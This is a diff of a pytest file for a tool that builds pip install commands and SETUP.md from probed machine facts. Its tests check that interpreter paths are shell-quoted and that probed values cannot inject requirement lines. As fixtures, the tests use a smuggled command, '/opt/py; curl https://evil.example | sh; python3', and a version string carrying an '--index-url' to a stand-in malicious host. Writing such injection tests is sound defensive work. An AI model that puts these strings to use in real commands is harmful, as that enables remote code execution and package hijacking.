@@ -154,35 +154,45 @@ def test_redact_masks_fleet_node_names(tmp_path):
 # --------------------------------------------------------------------------- commands built from facts
 
 
-def _quoted_facts(tmp_path: Path, python: str) -> Path:
-    doc = json.loads((FIXTURES / "personas5" / "machines" / "bare.json").read_text())
+def _with_python(tmp_path: Path, python: str, base: Path, **frameworks) -> Path:
+    doc = json.loads(base.read_text())
     doc["python"]["executable"] = python
+    for fw, version in frameworks.items():
+        doc["frameworks"][fw]["version"] = version
     path = tmp_path / "facts.json"
     path.write_text(json.dumps(doc))
     return path
 
 
-@pytest.mark.parametrize(
-    "python, word",
-    [
-        ("/opt/my venv/bin/python", "'/opt/my venv/bin/python' -m pip install"),
-        ("/opt/py; curl https://evil.example | sh; python3", "'/opt/py; curl https://evil"),
-    ],
-)
 @pytest.mark.xfail(
     strict=True,
-    reason="decide/ranking.py:_fill and decide/checklist.py:fill must put {python} in as "
-    "recommender.shell.quote_python(facts.get('python.executable'))",
+    reason="decide/checklist.py:Context.python must be "
+    "recommender.shell.quote_python(self.facts.get('python.executable'))",
 )
-def test_the_interpreter_in_a_printed_command_is_one_shell_word(tmp_path, python, word):
-    """Trigger: a venv path with a space, or ``/opt/py; curl … | sh; python3``, printed as-is
-    in "Install it:" and in SETUP.md."""
-    path = _quoted_facts(tmp_path, python)
-    ran = run("recommend", "--no-smoke", "--facts", str(path))
-    assert word in ran.out, ran.out
+def test_the_interpreter_in_a_checklist_fix_is_one_shell_word(tmp_path):
+    """Trigger: ``python.executable: /opt/py; curl … | sh; python3`` printed as-is in a fix
+    (and in SETUP.md's "Fix first"): pasted, it runs curl | sh."""
+    evil = "/opt/py; curl https://evil.example | sh; python3"
+    path = _with_python(tmp_path, evil, MACHINE, pytorch="9.0.0+cpu")  # newer than known
+    ran = run("checklist", "--no-smoke", "--facts", str(path), "--framework", "pytorch")
+    fixes = [ln for ln in ran.out.splitlines() if "fix:" in ln and "pip install" in ln]
+    assert fixes and all(f"'{evil}' -m pip" in ln for ln in fixes), fixes
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="decide/plans.py:python_cmd must return quote_python(exe, fallback='python'): a venv "
+    "path with a space falls back to 'python', another interpreter than the machine's",
+)
+def test_a_venv_path_with_a_space_stays_the_interpreter_of_install_it(tmp_path):
+    """Trigger: ``python.executable: /opt/my venv/bin/python``: the command broke in two words
+    (now: it names plain ``python``, which installs into whatever ``python`` is first)."""
+    path = _with_python(
+        tmp_path, "/opt/my venv/bin/python", FIXTURES / "personas5" / "machines" / "bare.json"
+    )
     project = tmp_path / "proj"
     assert run("init", str(project), "--no-smoke", "--facts", str(path)).code == 0
-    assert python not in (project / "SETUP.md").read_text().replace(word, "")
+    assert "'/opt/my venv/bin/python' -m pip install" in (project / "SETUP.md").read_text()
 
 
 def test_quote_python_and_safe_version():
@@ -214,7 +224,7 @@ def test_requirements_never_take_a_line_from_a_probed_value():
     doc["frameworks"]["pytorch"]["version"] = "2.13.0\n--index-url https://evil.example/simple"
     cl = Checklist(framework="pytorch", backend=None, name="PyTorch", origin="probed", items=())
     text = requirements(
-        cl, facts=Facts.from_dict(doc), rulebase=load_rulebase(), smoke=(), install=None
+        cl, facts=Facts.from_dict(doc), rulebase=load_rulebase(), smoke=(), plan=None
     )
     assert "evil" not in text and all(not ln.startswith("--index-url") for ln in text.splitlines())
 
